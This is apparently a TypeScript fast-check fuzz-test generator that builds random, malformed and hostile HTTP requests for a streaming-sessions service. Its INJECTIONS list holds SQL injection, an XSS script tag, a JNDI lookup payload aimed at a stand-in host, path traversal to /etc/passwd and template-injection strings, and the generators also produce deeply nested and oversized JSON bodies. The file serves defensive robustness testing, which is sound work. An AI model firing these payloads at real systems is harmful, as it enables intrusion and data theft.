/**
 * Random and malformed requests for the HTTP fuzz test: paths, headers and bodies that range from nearly
 * right to hostile (injection strings, unicode, lone surrogates, huge and deeply nested JSON, raw bytes).
 */
import fc from 'fast-check';
import { STREAMING_INSTANCE_TYPES } from 'nimble-streaming-sessions/domain';

export const INJECTIONS = [
  "' OR '1'='1",
  '"; DROP TABLE sessions; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  '../../../../etc/passwd',
  '..%2f..%2f',
  '%00',
  '\u0000',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  '%252e%252e%252f',
  '\ud800',
  '𝕏🙂\u202e',
  'us-west-2:stid-demo1234abcd5678',
  'x'.repeat(3000),
];

/** Text of every kind: graphemes, any code unit (lone surrogates included), injection strings. */
export const arbText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.constantFrom(...INJECTIONS) },
);

/** Printable ASCII, the most a header value can carry through a real client. */
const arbHeaderText = fc.oneof(
  fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 80 }),
  fc.constantFrom(...INJECTIONS.filter((s) => /^[\x20-\x7e]*$/.test(s))),
);

/** Percent-encodes a label the way the SDK does (UTF-8 bytes), so the path reaches the router intact. */
export function encodeLabel(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

/** Keeps '%' and other printable characters raw (broken escapes included) and encodes the rest. */
export function rawPath(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((b) =>
      b > 0x20 && b < 0x7f ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

const STUDIO = encodeLabel('us-west-2:stid-demo1234abcd5678');

export const arbPath = fc.oneof(
  arbText.map((s) => `/2020-08-01/studios/${encodeLabel(s)}/streaming-sessions`),
  fc.constant(`/2020-08-01/studios/${STUDIO}/streaming-sessions`),
  arbText.map((s) => `/2020-08-01/studios/${STUDIO}/streaming-sessions/${encodeLabel(s)}`),
  fc
    .tuple(arbText, arbText)
    .map(([a, b]) => `/2020-08-01/studios/${encodeLabel(a)}/streaming-sessions/${encodeLabel(b)}`),
  arbText.map((s) => `/${rawPath(s)}`),
  arbText.map((s) => `/2020-08-01/${rawPath(s)}`),
);

export const arbUrl = fc
  .tuple(arbPath, fc.option(arbText, { nil: undefined }))
  .map(([path, query]) => (query === undefined ? path : `${path}?${rawPath(query)}`));

export const arbMethod = fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD');

export const arbHeaders = fc.record(
  {
    'content-type': fc.oneof(
      fc.constantFrom(
        'application/json',
        'application/json; charset=utf-8',
        'text/plain',
        'application/x-www-form-urlencoded',
        'application/xml',
        '',
      ),
      arbHeaderText,
    ),
    'x-amz-client-token': arbHeaderText,
    authorization: arbHeaderText.map((s) => `AWS4-HMAC-SHA256 ${s}`),
    'x-amz-date': fc.oneof(arbHeaderText, fc.constant('20240102T030405Z')),
    'x-amz-content-sha256': arbHeaderText,
    accept: arbHeaderText,
  },
  { requiredKeys: [] },
);

function stringify(value: unknown): string {
  try {
    // JSON.stringify answers undefined for undefined, functions and symbols, whatever its type says.
    const text: unknown = JSON.stringify(value);
    return typeof text === 'string' ? text : '';
  } catch {
    return '';
  }
}

/** A create body with plausible member names and values of any type. */
const arbCreateBody = fc
  .record(
    {
      launchProfileId: fc.oneof(fc.constant('LpArtistWorkstation001'), arbText, fc.anything()),
      ec2InstanceType: fc.oneof(fc.constantFrom(...STREAMING_INSTANCE_TYPES), arbText, fc.integer()),
      streamingImageId: fc.oneof(fc.constant('ImgLinuxArtist0000001'), arbText, fc.anything()),
      ownedBy: fc.oneof(arbText, fc.anything()),
      tags: fc.oneof(fc.dictionary(arbText, arbText, { maxKeys: 60 }), fc.anything()),
      unknownMember: fc.anything(),
    },
    { requiredKeys: [] },
  )
  .map(stringify);

/** A create body that the schema accepts, so the request reaches the domain rules and the store. */
const arbNearlyValidBody = fc
  .record(
    {
      launchProfileId: fc.constantFrom(
        'LpArtistWorkstation001',
        'LpRenderNode000000001',
        'LpUpdating00000000001',
        'LpNoSuchProfile000001',
      ),
      ec2InstanceType: fc.constantFrom(...STREAMING_INSTANCE_TYPES),
      streamingImageId: fc.constantFrom('ImgWindowsArtist00001', 'ImgLinuxArtist0000001', 'NoSuchImage'),
      ownedBy: fc.constantFrom(
        '92677b4b19-0a0a0a0a-0000-4000-8000-0000000a0001',
        '92677b4b19-0a0a0a0a-0000-4000-8000-00000000ad01',
        'someone-else',
      ),
      tags: fc.dictionary(arbText, arbText, { maxKeys: 5 }),
    },
    { requiredKeys: ['launchProfileId'] },
  )
  .map(stringify);

export function bodyArbitrary(bodyLimit: number): fc.Arbitrary<string | Buffer | undefined> {
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant(undefined) },
    { weight: 6, arbitrary: arbNearlyValidBody },
    { weight: 2, arbitrary: fc.constant('{"launchProfileId":"LpArtistWorkstation001"}') },
    { weight: 6, arbitrary: arbCreateBody },
    { weight: 2, arbitrary: fc.json({ maxDepth: 5 }) },
    { weight: 2, arbitrary: fc.anything({ withBigInt: false }).map(stringify) },
    { weight: 2, arbitrary: arbText },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.integer({ min: 1, max: 60_000 }), fc.boolean())
        .map(([n, arrays]) =>
          arrays ? '['.repeat(n) + ']'.repeat(n) : '{"tags":'.repeat(n) + '{}' + '}'.repeat(n),
        ),
    },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: -2, max: 2 })
        .map(
          (k) =>
            `{"launchProfileId":"LpArtistWorkstation001","tags":{"a":"${'x'.repeat(bodyLimit + k * 16)}"}}`,
        ),
    },
  );
}

export interface FuzzRequest {
  readonly method: string;
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly body: string | Buffer | undefined;
  /** Sign it with a real key, so it gets past authentication to the decoding and validation behind. */
  readonly signed: boolean;
}

const CREATE_PATH = `/2020-08-01/studios/${STUDIO}/streaming-sessions`;

/**
 * Requests of three kinds: wild ones (anything anywhere, signed or not), and signed creates and gets that
 * are right at the HTTP level but random inside, so most of them reach decoding and validation.
 */
export function requestArbitrary(bodyLimit: number): fc.Arbitrary<FuzzRequest> {
  const wild = fc.record({
    method: arbMethod,
    url: arbUrl,
    headers: arbHeaders,
    body: bodyArbitrary(bodyLimit),
    signed: fc.boolean(),
  });
  const create = fc.record({
    method: fc.constant('POST'),
    url: fc.oneof({ weight: 4, arbitrary: fc.constant(CREATE_PATH) }, { weight: 1, arbitrary: arbPath }),
    headers: fc
      .tuple(arbHeaders, fc.boolean())
      .map(([headers, json]) => (json ? { ...headers, 'content-type': 'application/json' } : headers)),
    body: bodyArbitrary(bodyLimit),
    signed: fc.constant(true),
  });
  const get = fc.record({
    method: fc.constant('GET'),
    url: arbText.map((s) => `${CREATE_PATH}/${encodeLabel(s)}`),
    headers: arbHeaders.map(({ 'content-type': _, ...headers }) => headers),
    body: fc.constant(undefined),
    signed: fc.constant(true),
  });
  return fc.oneof(
    { weight: 4, arbitrary: wild },
    { weight: 4, arbitrary: create },
    { weight: 2, arbitrary: get },
  );
}

/** Raw bytes for the socket: a mangled HTTP request or plain noise. */
export const arbRawBytes = fc.oneof(
  fc.uint8Array({ maxLength: 400 }).map((b) => Buffer.from(b)),
  fc
    .tuple(
      fc.oneof(arbMethod, fc.constantFrom('CONNECT', 'TRACE', 'PROPFIND', 'BREW', 'get', '')),
      arbUrl,
      fc.array(fc.tuple(arbText, arbText), { maxLength: 5 }),
      arbText,
    )
    .map(([method, url, headers, body]) =>
      Buffer.from(
        `${method} ${url} HTTP/1.1\r\nHost: x\r\n${headers.map(([n, v]) => `${n}: ${v}\r\n`).join('')}\r\n${body}`,
      ),
    ),
);
